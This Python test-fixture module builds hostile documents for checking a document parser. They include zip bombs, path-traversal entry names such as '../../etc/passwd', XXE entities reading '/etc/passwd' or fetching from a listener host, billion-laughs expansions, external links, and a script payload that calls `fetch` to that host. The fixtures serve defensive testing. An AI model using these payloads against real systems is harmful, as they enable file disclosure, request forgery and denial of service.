"""Hostile documents and texts, the same ones each time: damaged, bombs, entities, parts in parts, endless words.

What their properties tell of somebody is the canary, which no text may bring in; where they ask for something from
elsewhere they name `home`, an address at which a test may listen.
"""

import random
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from io import BytesIO

from tests.documents.builder import R, p, r, word_file
from tests.documents.test_odt import odt
from tests.media.files import CANARY, jpeg
from tests.media.hostile import HOME, damaged

_CORE = (
    '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{0}</dc:creator>'
    "<cp:lastModifiedBy>{0}</cp:lastModifiedBy><dc:description>{0}</dc:description></cp:coreProperties>"
)
_META = (
    '<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><office:meta>'
    "<meta:initial-creator>{0}</meta:initial-creator></office:meta></office:document-meta>"
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def repacked(data: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    """The same zip with every part as `change` leaves it, and further parts (`__` for a slash)."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in given.namelist():
            made.writestr(_entry(name), change(name, given.read(name)))
        for name, body in more.items():
            made.writestr(_entry(name.replace("__", "/")), body)
    return out.getvalue()


def _entry(name: str) -> zipfile.ZipInfo:
    """Of one constant day, so that the same file is made each time."""
    entry = zipfile.ZipInfo(name)
    entry.compress_type = zipfile.ZIP_DEFLATED
    return entry


@cache
def whole_docx() -> bytes:
    """Words, a picture with the canary, a note, a remark, and properties with the canary."""
    picture = '<w:drawing><a:blip r:embed="picture"/></w:drawing>'
    remark = f'<w:comment w:id="0" w:author="{CANARY}" w:initials="CA">{p(r("une remarque"))}</w:comment>'
    body = p(r("Un titre"), properties='<w:pStyle w:val="Heading1"/>') + "".join(
        p(r(f"Phrase {number}. "), r("forte", "<w:b/>"), f"<w:r>{picture}</w:r>" if number == 3 else "")
        for number in range(30))  # fmt: skip
    body += p('<w:commentRangeStart w:id="0"/>', r("un passage"), '<w:commentRangeEnd w:id="0"/>',
              '<w:r><w:commentReference w:id="0"/></w:r>')  # fmt: skip
    made = word_file(body, jpeg(), comments=remark)
    return repacked(made, lambda _, part: part, docProps__core=_CORE.format(CANARY).encode())


@cache
def whole_odt() -> bytes:
    body = "".join(f'<text:p text:style-name="B">Phrase {number}</text:p>' for number in range(40))
    body += '<text:p><draw:frame><draw:image xlink:href="Pictures/a.jpg"/></draw:frame></text:p>'
    remark = f"<dc:creator>{CANARY}</dc:creator><text:p>oui</text:p>"
    body += f"<text:p><office:annotation>{remark}</office:annotation></text:p>"
    parts = {"meta__xml": _META.format(CANARY).encode(), "Pictures/a__jpg": jpeg()}
    return repacked(odt(body, **parts), _same)


def _broken(whole: bytes, other: bytes, number: int, rng: random.Random) -> bytes:
    """Every second one is damaged as a file, the others inside one of their parts, where the zip stays whole."""
    if number % 2:
        return damaged(number // 2 % 6, rng, whole, [other, jpeg()])
    with zipfile.ZipFile(BytesIO(whole)) as archive:
        hit = rng.choice([name for name in archive.namelist() if len(archive.read(name)) > 400])
    return repacked(whole, lambda name, part: damaged(number // 2 % 6, rng, part, [part]) if name == hit else part)


def broken_docx(number: int, rng: random.Random, home: str = HOME) -> bytes:
    return _broken(whole_docx(), whole_odt(), number, rng)


def broken_odt(number: int, rng: random.Random, home: str = HOME) -> bytes:
    return _broken(whole_odt(), whole_docx(), number, rng)


def zip_lies(number: int, rng: random.Random, home: str = HOME) -> bytes:
    """Bombs, and zips that say of themselves what they are not."""
    whole = rng.choice((whole_docx(), whole_odt()))
    makers = (
        lambda: repacked(whole, _same, bomb=bytes(rng.choice((59, 61, 300)) * 1_000_000)),
        lambda: repacked(whole, _same, **{f"part{one}": b"x" for one in range(rng.choice((1_900, 2_500, 9_000)))}),
        lambda: _inside(whole, rng.randrange(3, 60)),
        lambda: _renamed(whole, rng.choice(("../../etc/passwd", "/etc/x", "C:\\a", "a\0b", "\u202ea", "a" * 60_000))),
        lambda: _header(whole, rng, at=22, form="<I"),  # its real size
        lambda: _header(whole, rng, at=18, form="<I"),  # its packed size
        lambda: _header(whole, rng, at=6, form="<H"),  # its flags: locked, named in another way
        lambda: _header(whole, rng, at=8, form="<H"),  # how it was packed
        lambda: _central(whole, rng),
        lambda: rng.choice((b"%PDF-1.7\n", b"GIF89a", b"MZ", b"#!/bin/sh\n")) + whole,
        lambda: whole + rng.choice((b"<script>", whole_docx(), rng.randbytes(4_000))),
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + rng.randbytes(4_000),
    )
    return makers[number % len(makers)]()


def _same(_: str, part: bytes) -> bytes:
    return part


def _inside(data: bytes, levels: int) -> bytes:
    """A document in a document in a document."""
    for _ in range(levels):
        data = repacked(whole_docx(), _same, **{"word/embeddings/a.docx": data})
        if len(data) > 3_000_000:
            break
    return data


def _renamed(whole: bytes, name: str) -> bytes:
    return repacked(whole, _same, **{name: b"root:x:0:0"})


def _header(whole: bytes, rng: random.Random, at: int, form: str) -> bytes:
    """One local header, or all of them, with another number."""
    data = bytearray(whole)
    places = [place for place in range(len(data) - 30) if data[place : place + 4] == b"PK\x03\x04"]
    most = 0xFFFF if form == "<H" else 0xFFFFFFFF
    for place in places if rng.random() < 0.5 else [rng.choice(places)]:
        struct.pack_into(form, data, place + at, rng.choice((0, 1, 9, most, most - 1, 0x4000)))
    return bytes(data)


def _central(whole: bytes, rng: random.Random) -> bytes:
    """The directory at the end: entries on top of one another, sizes, links, a wrong count."""
    data = bytearray(whole)
    begin = data.index(b"PK\x01\x02")
    for _ in range(rng.randrange(1, 6)):
        places = [place for place in range(begin, len(data) - 46) if data[place : place + 4] == b"PK\x01\x02"]
        place, (at, form) = rng.choice(places), rng.choice(((42, "<I"), (20, "<I"), (24, "<I"), (38, "<I"), (28, "<H")))
        number = rng.choice((0, 30, 0xA1FF0000, 0xFFFFFFFF))
        struct.pack_into(form, data, place + at, number & (0xFFFF if form == "<H" else 0xFFFFFFFF))
    struct.pack_into("<H", data, data.rindex(b"PK\x05\x06") + 10, rng.choice((0, 1, 0xFFFF, 9)))
    return bytes(data)


def xml_lies(number: int, rng: random.Random, home: str = HOME) -> bytes:
    """Entities, document types, things included from elsewhere, and more of anything than a text can need."""
    makers = (
        lambda: _typed(_laughs(12), "&a11;"),
        lambda: _typed('<!ENTITY a "' + "x" * 200_000 + '">', "&a;" * 2_000),
        lambda: _typed(f'<!ENTITY a SYSTEM "http://{home}/a">', "&a;"),
        lambda: _typed('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        lambda: _typed(f'<!ENTITY % a SYSTEM "http://{home}/a.dtd"> %a;', "mot"),
        lambda: _typed('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;", rng.choice(("utf-16", "utf-32", "utf-16-be"))),
        lambda: word_file(p(r(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{home}/a"/>'))),
        lambda: _linked(home, rng.choice(("attachedTemplate", "image", "oleObject", "footnotes", "styles"))),
        lambda: word_file(rng.choice(("<w:p>", "<w:tbl><w:tr><w:tc>", "<w:ins>")) * rng.choice((200, 3_000, 90_000))),
        lambda: word_file(_deep(rng.choice(("w:ins", "w:sdt", "w:smartTag", "w:p")), rng.choice((100, 240, 5_000)))),
        lambda: word_file(p(r("mot")) * rng.choice((40_000, 200_000))),
        lambda: word_file(p(r("x" * rng.choice((900_000, 2_100_000, 9_000_000))))),
        lambda: word_file("<w:p " + "".join(f'w:a{n}="1" ' for n in range(rng.choice((9_000, 300_000)))) + "/>"),
        lambda: odt(f'<text:p><draw:frame><draw:image xlink:href="http://{home}/a.png"/></draw:frame></text:p>'),
        lambda: odt(f'<text:p><text:s text:c="{rng.choice((9, 10**6, 10**12))}"/></text:p>'),
        lambda: odt(f'<table:table><table:table-row table:number-rows-repeated="{10**9}"><table:table-cell '
                    f'table:number-columns-repeated="{10**9}"><text:p>mot</text:p></table:table-cell></table:table-row>'
                    "</table:table>"),
        lambda: odt("<text:p>" + "<text:span>" * rng.choice((240, 5_000)) + "mot"),
        lambda: word_file(p(r("mot")), styles="".join(_style(n, n - 1) for n in range(1, 5_000)) + _style(0, 4_999)),
    )  # fmt: skip
    return repacked(makers[number % len(makers)](), _same)


def _laughs(levels: int) -> str:
    """Each entity is ten times the one before."""
    ten = "".join(f'<!ENTITY a{level} "' + f"&a{level - 1};" * 10 + '">' for level in range(1, levels))
    return '<!ENTITY a0 "ha">' + ten


def _typed(entities: str, words: str, encoding: str = "utf-8") -> bytes:
    """A Word file whose text has a document type."""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [{entities}]>'
        f'<w:document xmlns:w="{_W}"><w:body>{p(r(words))}</w:body></w:document>'
    )
    told = text.encode(encoding)
    return repacked(word_file(p(r("mot"))), lambda name, part: told if name == "word/document.xml" else part)


def _linked(home: str, kind: str) -> bytes:
    """A part that is said to be elsewhere."""
    link = f'<Relationship Id="picture" Type="{R}/{kind}" Target="http://{home}/a" TargetMode="External"/>'
    rels = f"<Relationships>{link}</Relationships>".encode()
    body = word_file(p(r("mot"), '<w:r><w:drawing><a:blip r:link="picture"/></w:drawing></w:r>'))
    return repacked(body, lambda name, part: rels if name.endswith("document.xml.rels") else part)


def _deep(tag: str, levels: int) -> str:
    return f"<{tag}>" * levels + r("mot") + f"</{tag}>" * levels


def _style(number: int, based_on: int) -> str:
    return f'<w:style w:type="paragraph" w:styleId="s{number}"><w:basedOn w:val="s{based_on}"/></w:style>'


def texts(number: int, rng: random.Random, home: str = HOME) -> bytes:
    """Words that were made to be slow, to run, or to be taken for others."""
    signs = ("*", "**", "[[", "]]", "((", "))", "](http://a/", "\\", "[[ar/rtl|", "# ", "- ", "> ", "1. ", "\t")
    sign = rng.choice(signs)
    makers = (
        lambda: (sign * 200_000).encode()[:990_000],
        lambda: "".join(rng.choices(("*", "((", "mot ", "[[", "))", "]]", "\n", "](", "\\"), k=150_000)).encode(),
        lambda: ("\n".join(("  " * depth) + "- a" for depth in range(900))).encode(),
        lambda: b"<script>fetch('http://" + home.encode() + b"')</script><img src=x onerror=alert(1)>" * 50,
        lambda: rng.randbytes(rng.randrange(1, 200_000)),
        lambda: "".join(map(chr, rng.choices(range(1, 0x300), k=50_000))).encode(),
        lambda: ("\u202e\u2066\u200b\u200f\ufeff" * 30_000 + "mot").encode(),
        lambda: ("e" + "\u0301" * 190_000).encode(),
        lambda: ("mot " * 60_000).encode(rng.choice(("utf-16", "utf-32", "utf-8-sig"))),
        lambda: b"\xff\xfe" + bytes(100_000),
        lambda: ("[mot](javascript:alert(1)) [a](http://" + home + "/) " * 3_000).encode(),
        lambda: (("a" * rng.choice((900, 100_000))) + "\r\n" * 90_000).encode(),
    )  # fmt: skip
    return makers[number % len(makers)]()
